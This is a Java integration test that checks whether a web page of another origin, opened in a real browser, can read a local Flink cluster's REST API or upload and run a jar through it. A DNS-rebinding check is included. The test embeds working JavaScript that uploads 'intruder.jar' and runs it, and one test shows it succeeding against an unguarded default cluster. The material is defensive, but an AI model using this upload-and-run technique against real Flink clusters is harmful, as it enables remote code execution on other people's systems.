package io.zoetrope.outside;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import io.zoetrope.flink.LocalCluster;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import java.util.stream.Stream;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.CoreOptions;
import org.apache.flink.configuration.RestOptions;
import org.apache.flink.configuration.WebOptions;
import org.apache.flink.runtime.minicluster.MiniCluster;
import org.apache.flink.runtime.minicluster.MiniClusterConfiguration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Lets a page of another origin attack Flink's REST API in a real browser. */
class ForeignOriginIT {
    @TempDir
    private static Path profile;

    private static Browser browser;
    private static HttpServer foreign;

    @TempDir
    private Path folder;

    @BeforeAll
    static void start() throws IOException {
        browser = Browser.start(profile);
        foreign = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        foreign.createContext("/", exchange -> {
            byte[] page = "<!doctype html><title>elsewhere</title>".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        foreign.start();
    }

    @AfterAll
    static void stop() {
        if (browser != null) { // null if a tool is missing
            browser.close();
            foreign.stop(0);
        }
    }

    @Test
    void aPageOfAnotherOriginReadsNothingAndRunsNothing() throws Exception {
        try (LocalCluster cluster = LocalCluster.start(1, folder.resolve("flink"), 0)) {
            assertThat(attack(cluster.webUi())).containsExactly("read refused", "run refused");
            assertThat(folder.resolve("ran")).doesNotExist();
            assertThat(jarsBelow(folder)).isEmpty();
        }
    }

    @Test
    void aNameThatResolvesToLoopbackIsRefused() throws Exception {
        try (LocalCluster cluster = LocalCluster.start(1, folder.resolve("flink"), 0)) {
            URI rebound = URI.create("http://rebound.example:" + cluster.webUi().getPort() + "/");
            browser.open(rebound.resolve("/overview"));

            assertThat(text()).contains("the Host header names a host that this server does not have");
        }
    }

    @Test
    void theWebUiStillWorks() throws Exception {
        try (LocalCluster cluster = LocalCluster.start(1, folder.resolve("flink"), 0)) {
            // Right after its start the cluster answers that it is not ready.
            await().untilAsserted(() -> {
                browser.open(cluster.webUi().resolve("/overview"));
                assertThat(text()).contains("slots-total");
            });
            assertThat(browser.run("const done = arguments[0]; fetch('/overview').then(r => done(r.status))")
                            .asInt())
                    .isEqualTo(200);
        }
    }

    /** The planted fault: a cluster with Flink's own settings. */
    @Test
    void onAnUnguardedClusterTheSamePageUploadsItsJarAndRunsItsMain() throws Exception {
        Configuration settings = new Configuration();
        settings.set(CoreOptions.TMP_DIRS, folder.toString());
        settings.set(WebOptions.TMP_DIR, folder.toString());
        settings.set(RestOptions.BIND_ADDRESS, LocalCluster.LOOPBACK);
        settings.set(RestOptions.BIND_PORT, "0");
        try (MiniCluster cluster = new MiniCluster(new MiniClusterConfiguration.Builder()
                .setConfiguration(settings)
                .setNumTaskManagers(1)
                .setNumSlotsPerTaskManager(1)
                .build())) {
            cluster.start();

            List<String> outcome = attack(cluster.getRestAddress().get());

            assertThat(outcome).first().asString().startsWith("read ");
            assertThat(jarsBelow(folder)).isNotEmpty();
            assertThat(folder.resolve("ran")).as(outcome.get(1)).hasContent("code of a foreign page has run");
        }
    }

    private static String text() {
        return browser.run("arguments[0](document.body.innerText)").asText();
    }

    /** Opens the foreign page, which reads the cluster's overview, uploads a jar and runs it; returns what succeeded. */
    private List<String> attack(URI rest) throws IOException {
        browser.open(URI.create("http://127.0.0.1:" + foreign.getAddress().getPort() + "/"));
        JsonNode outcome = browser.run(
                """
                const [rest, jar, file, done] = arguments;
                const upload = mode => {
                  const form = new FormData();
                  const bytes = Uint8Array.from(atob(jar), c => c.charCodeAt(0));
                  form.append('jarfile', new Blob([bytes], {type: 'application/x-java-archive'}), 'intruder.jar');
                  return fetch(rest + 'jars/upload', {method: 'POST', body: form, mode});
                };
                (async () => {
                  const outcome = [];
                  await fetch(rest + 'overview').then(r => outcome.push('read ' + r.status),
                      () => outcome.push('read refused'));
                  await upload('no-cors').catch(() => {});
                  try {
                    const name = (await (await upload('cors')).json()).filename.split('/').pop();
                    const run = await fetch(rest + 'jars/' + name + '/plan?programArg=' + encodeURIComponent(file),
                        {method: 'POST'});
                    outcome.push('run ' + run.status + ' ' + await run.text());
                  } catch (e) {
                    outcome.push('run refused');
                  }
                  done(outcome);
                })();
                """,
                rest.resolve("/").toString(),
                Base64.getEncoder().encodeToString(jar()),
                folder.resolve("ran").toString());
        return Stream.iterate(0, i -> i < outcome.size(), i -> i + 1)
                .map(i -> outcome.get(i).asText())
                .toList();
    }

    private static byte[] jar() throws IOException {
        Manifest manifest = new Manifest();
        manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().put(Attributes.Name.MAIN_CLASS, Intruder.class.getName());
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        String entry = Intruder.class.getName().replace('.', '/') + ".class";
        try (JarOutputStream jar = new JarOutputStream(bytes, manifest);
                InputStream type =
                        Objects.requireNonNull(Intruder.class.getClassLoader().getResourceAsStream(entry))) {
            jar.putNextEntry(new JarEntry(entry));
            type.transferTo(jar);
        }
        return bytes.toByteArray();
    }

    private static List<Path> jarsBelow(Path folder) throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            return files.filter(file -> file.toString().endsWith("intruder.jar"))
                    .toList();
        }
    }
}
